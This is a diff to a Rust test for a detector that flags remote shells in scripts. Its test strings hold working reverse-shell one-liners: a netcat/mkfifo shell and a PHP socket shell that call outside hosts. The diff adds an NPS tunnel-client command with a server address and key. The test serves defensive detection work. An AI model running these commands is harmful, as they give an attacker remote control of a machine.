@@ -18,7 +18,9 @@ fn back_connect_shells_in_each_language_are_found() {
         "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f\n";
     // fresh111's `a.sh`: PHP's own socket handed to bash as its input and output.
     let php = "php -r '$sock=fsockopen(\"0.tcp.ap.ngrok.io\",18251);popen(\"bash <&3 >&3 2>&3\", \"r\");'\n";
-    for src in [perl, python, shell, netcat, php] {
+    // Regression: fresh148's `u.sh` starts NPS's tunnel client with its server and key.
+    let tunnel = "/dev/shm/npc -server=198.51.100.7:443 -vkey=g6jpzgziodoyzb7u -type=tcp &\n";
+    for src in [perl, python, shell, netcat, php, tunnel] {
         assert_eq!(whys(src), [Why::RemoteShell], "{src}");
     }
 }
